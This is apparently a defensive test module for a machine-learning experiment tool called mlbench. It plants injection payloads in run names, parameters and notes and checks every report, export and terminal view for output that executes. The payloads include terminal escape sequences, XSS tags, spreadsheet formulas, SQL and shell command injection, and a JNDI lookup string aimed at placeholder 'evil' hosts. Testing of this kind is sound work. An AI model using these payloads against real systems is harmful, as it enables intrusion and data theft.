"""Names, parameters, metrics, tags and notes that mean harm, and every place where mlbench prints them.

Run as a process of its own (`python -m tests.reliability.hostile FOLDER`), since it takes stdout and stderr.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import sys
import unicodedata
from dataclasses import asdict, dataclass, field
from html.parser import HTMLParser
from pathlib import Path

from mlbench.journal import RunRef, open_journal
from mlbench.main import run
from mlbench.paths import find_home
from tests.reliability.killing import run_module
from tests.tui.terminal import Terminal

PAYLOADS = (
    "\x1b[2J\x1b[Hcleared", "\x1b]52;c;ZXZpbA==\x07clip", "\x1b]52;c;ZXZpbA==\x1b\\clip", "\x1b]0;title\x07t", "\x1b]8;;http://evil\x1b\\link",
    "\x1b[31;5mred", "\x1b[6nreport", "\x1bP+q544e\x1b\\dcs", "\x1b_Gkitty\x1b\\", "\x9b2Jc1", "\x9d52;c;ZXZpbA==\x9cc1 clip", "\x90dcs\x9c",
    "a\rb", "a\nb\n# heading", "a\tb", "bell\x07", "back\x08\x08space", "del\x7f", "\u202egnp.exe", "\u2066iso\u2069", "zero\u200bwidth",
    "line\u2028sep", "tag\U000e0041s", "[@click=app.quit]leave[/]", "loss [/] x", "[loss]", "=HYPERLINK(\"http://evil\",\"x\")", "@SUM(A1)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>", "[x](javascript:alert(1)) | ![i](http://evil/p.png) `c`", "\\input{x} $x^2$ 50% & {a}",
    "'; DROP TABLE runs; --", "$(touch evil) `touch evil` ;touch evil", "${jndi:ldap://evil}",
)  # fmt: skip

_TEXT = ("table", "json", "jsonl", "csv", "tsv", "markdown", "latex")
_LISTINGS = (
    ("query",), ("query", "--columns", "*"), ("show", "@1"), ("diff", "@1", "@2", "@3"), ("sql", "SELECT * FROM params"),
    ("sql", "SELECT * FROM tags"), ("doctor",), ("views",),
)  # fmt: skip
_ALONE = (
    ("query", "--by", "params.evil"), ("query", "PAYLOAD"), ("query", "--sort", "PAYLOAD"), ("query", "metrics.PAYLOAD < 1"), ("show", "PAYLOAD"),
    ("PAYLOAD",), ("tag", "@1", "PAYLOAD"), ("query", "--PAYLOAD"), ("note", "@1"), ("plot", "-m", "PAYLOAD", "@1"), ("plot", "@1", "@2"),
    ("report", "-o", "-"), ("journal", "list"), ("compare", "tag:x", "tag:y"), ("export", "runs", "-o", "PAYLOAD.csv"), ("--home", "PAYLOAD", "query"),
    ("sql", "SELECT PAYLOAD"), ("journal", "export"), ("ingest", "PAYLOAD"),
)  # fmt: skip
_FILES = (
    ("report", "--html", "-o", "out.html"), ("report", "-o", "out.2.html"), ("report", "-o", "out.md"), ("export", "runs", "-o", "out.csv"), ("export", "params", "-o", "out.csv"),
    ("export", "series", "-o", "out.tsv"), ("export", "params", "-o", "out.jsonl"), ("plot", "@1", "-o", "out.svg"),
)  # fmt: skip
SINKS = (
    *(words if form == "table" else (*words, "--format", form) for words in _LISTINGS for form in _TEXT), *_ALONE, *_FILES,
)  # fmt: skip
"""Commands of which the output is looked at; PAYLOAD stands for each of the payloads in turn."""
_FORMULA = re.compile(r"[=@＝＠]")


@dataclass(slots=True)
class Shown:
    n_sinks: int = 0
    n_pairs: int = 0
    acting: list[str] = field(default_factory=list)
    """Sink and payload of those that reached the output as they are, or act in its format."""


def make(folder: Path) -> Path:
    """A home with every payload as name, parameter, metric, tag, note, view and damaged file."""
    logs = folder / "logs"
    for number, payload in enumerate(PAYLOADS):
        place = logs / (payload.replace("/", "∕").replace("\0", "") or "empty")
        place.mkdir(parents=True)
        (place / "hparams.yaml").write_text(
            json.dumps({payload: payload, "evil": payload, "lr": number}), encoding="utf-8"
        )
        rows = "".join(
            json.dumps({"step": step, payload: step * 0.5, "loss": 1 / (step + 1)}) + "\n" for step in range(3)
        )
        (place / "metrics.jsonl").write_text(rows, encoding="utf-8")
        (place / f"events.out.tfevents.1.{number}").write_bytes(b"\x18\0\0\0\0\0\0\0garbage" + payload.encode())
    home = folder / "home"
    os.environ["MLBENCH_HOME"] = str(home)
    _ran(("ingest", str(logs)), folder)
    with open_journal(find_home()) as journal:
        for place in sorted(logs.iterdir()):
            journal.tag(RunRef(str(place)), add=[place.name, "x" if len(place.name) % 2 else "y"])
            journal.note(RunRef(str(place)), "\n".join(PAYLOADS))
    return home


def look(folder: Path, every: int) -> Shown:
    """Print everything everywhere, and look for what acts; of words with a payload in them only every so many are typed."""
    make(folder)
    shown = Shown()
    os.chdir(folder)
    for sink in SINKS:
        shown.n_sinks += 1
        is_typed = any("PAYLOAD" in word for word in sink)
        chosen = PAYLOADS[shown.n_sinks % every :: every] if is_typed else ("",)
        printed = [_ran(tuple(word.replace("PAYLOAD", payload) for word in sink), folder) for payload in chosen]
        shown.n_pairs += len(chosen) if is_typed else len(PAYLOADS)
        for text in printed:
            shown.acting += [f"{' '.join(sink)}: {what}" for what in acting(text, sink)]
    if (folder / "evil").exists():
        shown.acting.append("a shell ran")
    return shown


def _ran(words: tuple[str, ...], folder: Path) -> str:
    """What a command prints, or writes into its file."""
    out, told = io.StringIO(), io.StringIO()
    target = next((folder / word for word in words if word.startswith("out.")), None)
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(told):
        run(words)
    written = target.read_text("utf-8") if target is not None and target.exists() else ""
    return out.getvalue() + told.getvalue() + written


def acting(text: str, sink: tuple[str, ...]) -> list[str]:
    """What in a text is not harmless."""
    found = [
        f"U+{ord(char):04X}"
        for char in sorted(set(text))
        if char not in "\n\t\r" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp", "Cs")
    ]
    kind = sink[sink.index("--format") + 1] if "--format" in sink else sink[-1].rpartition(".")[2]
    if kind in ("markdown", "md", "html", "svg") or sink[-1] == "-":
        found += live_parts(text if kind in ("html", "svg") else _html(text))
    if kind == "csv" and "PAYLOAD" not in sink[-1]:
        cells = (cell for row in csv.reader(io.StringIO(text)) for cell in row)
        found += [f"formula: {cell[:20]}" for cell in cells if _FORMULA.match(cell)]
    if kind == "latex":
        found += [f"command: {match[0]}" for match in re.finditer(r"\\input\{", text)]
    return found


def _html(text: str) -> str:
    from markdown_it import MarkdownIt

    return str(MarkdownIt("commonmark").enable("table").render(text))


class _Live(HTMLParser):
    """Tags and attributes that run something, or fetch it from elsewhere."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "form", "base"):
            self.found.append(f"live: <{tag}>")
        for name, value in attributes:
            away = name in ("href", "src", "xlink:href") and (value or "").lower().startswith(
                ("javascript:", "http://evil")
            )
            if name.startswith("on") or away:
                self.found.append(f"live: <{tag} {name}={value!r:.80}>")


def live_parts(html: str) -> list[str]:
    """What of an HTML or SVG text acts."""
    parser = _Live()
    parser.feed(html)
    return parser.found


def in_own_process(folder: Path, *, every: int = 1) -> Shown:
    """The same in a process of its own."""
    return Shown(**run_module("tests.reliability.hostile", str(folder), str(every)))


KEYS = (
    "j",
    "\r",
    "2",
    "3",
    "4",
    "5",
    "6",
    "7",
    "8",
    "\x1b",
    "*",
    "p",
    "m",
    "\x1b",
    "\x1b",
    "d",
    "a",
    "\x1b",
    "t",
    "\x1b",
    "?",
    "\x1b",
    ":problems\r",
    "\x1b",
    ",",
    "\x1b",
    "'",
    "\x1b",
    "c",
    "\x1b",
    "S",
    "\x1b",
    "f",
    "\x1b",
    "o",
    "\x1b",
    "n",
    "\x1b",
    "B",
    "\x1b",
    "x",
    "\x1b",
    "/",
    "\x1b",
    "z",
    "z",
)
"""One run and its parts, the chart of all, what differs, tagging, help, problems; settings, views, columns, values, groups,
notes, the bell, a report and the query.
"""


def in_terminal(folder: Path) -> Shown:
    """Walk through the workbench in a pseudo-terminal; the home is that of an earlier `look`."""
    environ = {
        "MLBENCH_HOME": str(folder / "home"),
        "TERM": "xterm-256color",
        "COLORTERM": "truecolor",
        "LC_ALL": "C.UTF-8",
    }
    shown = Shown(n_sinks=len(KEYS) + 1, n_pairs=(len(KEYS) + 1) * len(PAYLOADS))
    with Terminal([str(folder / "logs")], size=(160, 45), environ=environ, cwd=str(folder)) as terminal:
        terminal.wait_for("lr", seconds=60)
        for key in KEYS:
            terminal.press(key)
            terminal.read(0.4)
        assert terminal.process is not None
        if terminal.process.poll() is not None:
            shown.acting.append("the workbench ended")
        shown.acting += [
            repr(text) for text in PAYLOADS if not text.isprintable() and text.encode() in terminal.written
        ]
        n_seen = sum(sign in terminal.written for sign in ("␛[31;5mred".encode(), b"[loss]", b"=HYPERLINK"))
        if n_seen < 2:
            shown.acting.append("the names are not shown")
    return shown


if __name__ == "__main__":
    told = look(Path(sys.argv[1]), int(sys.argv[2]))
    print(json.dumps(asdict(told)))
